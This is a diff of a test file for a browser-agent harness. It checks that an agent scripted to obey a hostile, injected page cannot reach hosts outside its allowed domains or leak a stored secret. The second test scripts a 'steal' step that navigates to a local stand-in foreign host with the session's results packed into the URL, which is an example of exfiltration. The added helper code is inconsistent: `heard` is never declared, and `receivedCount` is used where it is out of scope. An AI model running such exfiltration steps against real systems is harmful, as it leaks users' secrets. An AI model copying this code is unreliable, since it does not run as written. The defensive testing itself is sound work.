@@ -1,6 +1,8 @@
 import { createHash } from "node:crypto";
+import { createSocket } from "node:dgram";
 import { once } from "node:events";
-import { type AddressInfo, createServer } from "node:net";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
 import { waitUntil } from "../../../src/platform/bounded-wait.ts";
 import { runAgent } from "../../../tools/agent/run-agent.ts";
@@ -215,51 +217,106 @@ test("the tool refuses unknown fields of an action, and names the action when th
   });
 }, 60_000);
 
-test("a model that obeys a hostile page does not leave the allowed domains", async () => {
-  await storeKey("anthropic");
-  let receivedCount = 0;
-  const outside = createServer((socket) => {
-    receivedCount += 1;
-    socket.destroy();
+/** A foreign site that records what reaches it, by TCP and UDP. */
+async function startForeignSite() {
+  const receivedCount: string[] = [];
+  const server = createServer((request, response) => {
+    receivedCount.push(request.url ?? "");
+    response.end("<title>Foreign</title><label>Note <input></label>");
   });
-  await once(outside.listen(0, "127.0.0.2"), "listening");
-  const host = `127.0.0.2:${(outside.address() as AddressInfo).port}`;
+  server.on("connection", () => void heard.push("connection"));
+  await once(server.listen(0, "127.0.0.2"), "listening");
+  const { port } = server.address() as AddressInfo;
+  const udp = createSocket("udp4", () => void heard.push("datagram"));
+  udp.bind(port, "127.0.0.2");
+  await once(udp, "listening");
+  const dispose = () => {
+    udp.close();
+    server.closeAllConnections();
+    server.close();
+  };
+  return { heard, host: `127.0.0.2:${port}`, [Symbol.dispose]: dispose };
+}
+
+test("a model that obeys a hostile page does not leave the allowed domains in any way", async () => {
+  await storeKey("anthropic");
+  using foreign = await startForeignSite();
+  const { heard, host } = foreign;
   const to = `http://${host}`;
   const hostile = call("navigate", { url: scene.site.url(`/leave.html?to=${to}`) });
   const obey = (element: string) => [hostile, (asked: Asked) => act({ kind: "tap", ref: refOf(asked, element) })];
-  try {
-    const allowed_domains = ["127.0.0.1", "*.inside.test"];
-    await withAgent(
-      async ({ path, message }) => {
-        say(
-          call("navigate", { url: to }),
-          call("navigate", { url: scene.site.url(`/redirect-to?to=${to}`) }),
-          ...obey('button "Popup"'),
-          ...obey('link "Link"'),
-          ...obey('button "Send"'),
-          call("done", { text: "I have tried." }),
-        );
-        expect((await message("Look around.")).body.text).toBe("I have tried.");
-        const results = provider.asked.at(-1)?.results ?? [];
-        const refused = `failed: driver-error: ${host} is not an allowed host of this session`;
-        for (const result of results.slice(0, 2)) expect(result).toContain(refused);
-        for (const index of [3, 5, 7]) expect(results[index]).toContain("is not an allowed host of this session");
-        const { body: agent } = await scene.rest(path);
-        expect(agent.allowed_domains).toEqual(allowed_domains);
-        const { egress } = (await scene.rest(`/v1/sessions/${agent.session_id}/state`)).body;
-        expect(egress.refused).toContain(host);
-      },
-      { allowed_domains },
-    );
-    expect(receivedCount).toBe(0);
-    await withAgent(async ({ message }) => {
-      say(call("navigate", { url: to }), call("done", { text: "I was there." }));
-      await message("Look around.");
-    });
-    expect(receivedCount).toBeGreaterThan(0);
-  } finally {
-    outside.close();
-  }
+  const allowed_domains = ["127.0.0.1", "*.inside.test"];
+  await withAgent(
+    async ({ path, message }) => {
+      say(
+        call("navigate", { url: to }),
+        call("navigate", { url: scene.site.url(`/redirect-to?to=${to}`) }),
+        ...obey('button "Popup"'),
+        ...obey('link "Link"'),
+        ...obey('button "Send"'),
+        ...obey('button "Other ways"'),
+        call("observe", { find: "tried" }),
+        call("done", { text: "I have tried." }),
+      );
+      expect((await message("Look around.")).body.text).toBe("I have tried.");
+      const results = provider.asked.at(-1)?.results ?? [];
+      const refused = `failed: driver-error: ${host} is not an allowed host of this session`;
+      for (const result of results.slice(0, 2)) expect(result).toContain(refused);
+      for (const index of [3, 5, 7]) expect(results[index]).toContain("is not an allowed host of this session");
+      const { body: agent } = await scene.rest(path);
+      expect(agent.allowed_domains).toEqual(allowed_domains);
+      const session = `/v1/sessions/${agent.session_id}`;
+      const tried = { condition: { kind: "text", text: "tried" }, timeout_ms: 20_000 };
+      expect((await scene.rest(`${session}/wait`, tried)).status).toBe(200);
+      const { egress } = (await scene.rest(`${session}/state`)).body;
+      expect(JSON.stringify(egress.refused)).toContain(host);
+      // The relay refuses the name before a lookup.
+      expect(JSON.stringify(egress.refused)).toContain("name.outside.test");
+    },
+    { allowed_domains },
+  );
+  expect(receivedCount).toEqual([]);
+  await withAgent(async ({ message }) => {
+    say(call("navigate", { url: to }), call("done", { text: "I was there." }));
+    await message("Look around.");
+  });
+  expect(receivedCount.length).toBeGreaterThan(0);
+}, 120_000);
+
+test("a model that obeys a hostile page carries no secret to a foreign host", async () => {
+  await storeKey("anthropic");
+  using foreign = await startForeignSite();
+  const value = "Tr0ub4dor&3-Zürich";
+  const steal = ({ results }: Asked) =>
+    call("navigate", { url: `http://${foreign.host}/?all=${encodeURIComponent(results.join("\n")).slice(0, 6_000)}` });
+  await withAgent(
+    async ({ path, message }) => {
+      say(
+        call("navigate", { url: scene.site.url("/echo.html") }),
+        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "Key"'), text: "{{key}}" }),
+        steal,
+        (asked) =>
+          act({
+            kind: "type",
+            ref: refOf(asked, 'textbox "Note"'),
+            text: asked.results.slice(0, 2).join().slice(0, 4_000),
+          }),
+        ({ results }) => ({ text: results.at(-1) ?? "" }),
+      );
+      expect((await message("Enter the key.")).body.status).toBe("done");
+      const sent = foreign.receivedCount.map(decodeURIComponent).join("\n");
+      expect(sent).toContain("reversed: {{key}}");
+      const told = sent + (await everythingTold(path));
+      const bare = told.replace(/[\s\u200b]|\\u200b/g, "").toLowerCase();
+      const bytes = Buffer.from(value);
+      const forms = [value, [...value].reverse().join(""), bytes.toString("base64"), bytes.toString("hex")];
+      const base64 = Buffer.from(`k=${value};`).toString("base64").slice(4, -4);
+      for (const form of [...forms, base64]) expect(bare).not.toContain(form.toLowerCase());
+      expect(told).not.toContain(value.slice(0, 9));
+      expect(told).not.toContain(value.slice(9));
+    },
+    { variables: { key: { value, domains: ["127.0.0.1"] } } },
+  );
 }, 60_000);
 
 test("allowed domains must be hosts, and require a new browser", async () => {
